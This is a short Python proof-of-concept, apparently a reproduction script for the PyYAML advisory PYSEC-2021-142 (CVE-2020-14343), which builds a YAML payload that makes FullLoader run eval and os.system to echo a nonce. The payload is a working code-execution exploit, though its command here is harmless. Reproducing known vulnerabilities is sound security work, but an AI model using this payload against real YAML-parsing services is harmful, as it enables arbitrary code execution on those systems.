# PYSEC-2021-142 (CVE-2020-14343): PyYAML before 5.4, the fix for CVE-2020-1747 is incomplete: FullLoader still
# builds python/object/new of tuple over map(eval, [...]), which evaluates attacker code.
import os

import yaml

code = f"__import__('os').system('echo {os.environ['REPRODUCE_NONCE']}')"
yaml.full_load(f'!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , ["{code}"]]]')
